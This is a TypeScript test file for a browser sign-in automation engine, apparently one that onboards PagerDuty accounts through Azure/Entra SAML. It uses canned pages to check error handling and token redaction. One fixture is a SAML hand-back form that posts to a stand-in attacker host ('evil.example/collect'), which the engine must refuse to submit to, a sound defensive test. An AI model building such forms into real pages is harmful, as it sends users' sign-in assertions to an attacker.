// The engine against small canned pages (served by request interception, no server): states it must recognise
// beyond the sandbox's own pages, and how it ends on each.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HTTPRequest, Page } from 'puppeteer-core';
import { findBrowser } from '../../src/browser/find-browser.js';
import { openBrowser, type BrowserSession } from '../../src/browser/session.js';
import { runSignInFlow } from '../../src/connect/engine.js';
import { fileCodeLedger } from '../../src/connect/code-ledger.js';
import { removeDir, tempDir } from '../helpers/cli.js';
import { OnboardError } from '../../src/core/errors.js';
import type { ResolvedInstance } from '../../src/cli/inputs.js';

type Route = (request: HTTPRequest) => { status?: number; body: string; location?: string };

let session: BrowserSession;
const ledger = tempDir('sspm-ledger-');
beforeAll(async () => {
  const browser = findBrowser({ env: process.env });
  session = await openBrowser({ executable: browser.path, headless: browser.headless });
});
afterAll(async () => {
  await session?.close();
  removeDir(ledger);
});

const PD_ONE_PAGE = `<!doctype html><title>Sign In | PagerDuty</title><form method="post" action="/sign_in">
<input id="user_email" name="user[email]" type="email"><input id="user_password" name="user[password]" type="password">
<input type="submit" name="commit" value="Sign In"></form>
<a href="https://login.microsoftonline.com/00000000-0000-0000-0000-000000000000/saml2?SAMLRequest=abc">Sign In With Your Identity Provider</a>`;

const azure: ResolvedInstance = { name: 'acme', subdomain: 'acme', region: 'us', loginMethod: 'azure', user: 'megan@acme.example', password: 'canned-pw-123', okta: null, mfa: { secret: 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP', digits: 6, period: 30, algorithm: 'sha1' } };
const credentials: ResolvedInstance = { ...azure, loginMethod: 'credentials', user: 'owner@acme.example', mfa: null };

async function run(instance: ResolvedInstance, routes: Record<string, Route>, posted: string[] = []): Promise<OnboardError | 'signed-in'> {
  const context = await session.newContext();
  const page: Page = await context.newPage();
  await page.setRequestInterception(true);
  page.on('request', (request) => {
    const url = request.url().split('?')[0]!;
    if (request.method() === 'POST') posted.push(`${url} ${request.postData() ?? ''}`);
    const route = routes[`${request.method()} ${url}`];
    if (!route) return void request.respond({ status: 404, contentType: 'text/html', body: '<title>Not found</title>' });
    const answer = route(request);
    void request.respond({
      status: answer.status ?? (answer.location ? 302 : 200),
      contentType: 'text/html',
      headers: answer.location ? { location: answer.location } : {},
      body: answer.body,
    });
  });
  try {
    await runSignInFlow({ page, instance, deadline: Date.now() + 20_000, hooks: { stepStarted: () => {} }, codes: fileCodeLedger(ledger) });
    return 'signed-in';
  } catch (error) {
    if (error instanceof OnboardError) return error;
    throw error;
  } finally {
    await context.close();
  }
}

describe('engine on canned pages', () => {
  it('an Entra error page (ConvergedError) ends in LOGIN_REJECTED quoting it, before typing anything there', async () => {
    const posted: string[] = [];
    const result = await run(
      azure,
      {
        'GET https://acme.pagerduty.com/sign_in': () => ({ body: PD_ONE_PAGE }),
        'GET https://login.microsoftonline.com/00000000-0000-0000-0000-000000000000/saml2': () => ({
          body: `<!doctype html><meta name="PageID" content="ConvergedError"><div id="errorDescription">AADSTS50105: The signed in user is not assigned to a role for the application.</div>`,
        }),
      },
      posted,
    );
    expect(result).toBeInstanceOf(OnboardError);
    const error = result as OnboardError;
    expect(error.code).toBe('LOGIN_REJECTED');
    expect(error.message).toContain('AADSTS50105');
    expect(posted).toEqual([]);
  });

  it('a password rejected in a way the tables do not name (a re-rendered form with an alert) is LOGIN_REJECTED', async () => {
    const result = await run(credentials, {
      'GET https://acme.pagerduty.com/sign_in': () => ({ body: PD_ONE_PAGE }),
      'POST https://acme.pagerduty.com/sign_in': () => ({ body: PD_ONE_PAGE.replace('<form', '<p class="notice-box" role="alert">That password is not valid.</p><form') }),
    });
    expect((result as OnboardError).code).toBe('LOGIN_REJECTED');
    expect((result as OnboardError).message).toContain('That password is not valid.');
  });

  it('signed in when PagerDuty lands on an app page; an unknown page after sign-in is UNRECOGNIZED_PAGE without the query', async () => {
    const signedIn = await run(credentials, {
      'GET https://acme.pagerduty.com/sign_in': () => ({ body: PD_ONE_PAGE }),
      'POST https://acme.pagerduty.com/sign_in': () => ({ body: '', location: 'https://acme.pagerduty.com/incidents?x=1' }),
      'GET https://acme.pagerduty.com/incidents': () => ({ body: '<title>Incidents</title><h1>Incidents</h1>' }),
    });
    expect(signedIn).toBe('signed-in');

    const unknown = await run(credentials, {
      'GET https://acme.pagerduty.com/sign_in': () => ({ body: PD_ONE_PAGE }),
      'POST https://acme.pagerduty.com/sign_in': () => ({ body: '', location: 'https://acme.pagerduty.com/survey?token=secret-token' }),
      'GET https://acme.pagerduty.com/survey': () => ({ body: '<h1>Tell us about you</h1><button>Continue</button>' }),
    });
    expect((unknown as OnboardError).code).toBe('UNRECOGNIZED_PAGE');
    expect((unknown as OnboardError).message).toContain('https://acme.pagerduty.com/survey');
    expect((unknown as OnboardError).message).not.toContain('secret-token');
  });

  it('a hand-back form that does not submit itself is submitted only to PagerDuty', async () => {
    const handback = (action: string) => `<!doctype html><form method="post" action="${action}"><input type="hidden" name="SAMLResponse" value="x"></form>`;
    const posted: string[] = [];
    const result = await run(
      azure,
      {
        'GET https://acme.pagerduty.com/sign_in': () => ({ body: PD_ONE_PAGE }),
        'GET https://login.microsoftonline.com/00000000-0000-0000-0000-000000000000/saml2': () => ({ body: handback('https://evil.example/collect') }),
      },
      posted,
    );
    expect((result as OnboardError).code).toBe('UNRECOGNIZED_PAGE');
    expect((result as OnboardError).message).toContain('evil.example');
    expect(posted).toEqual([]);
  });
});
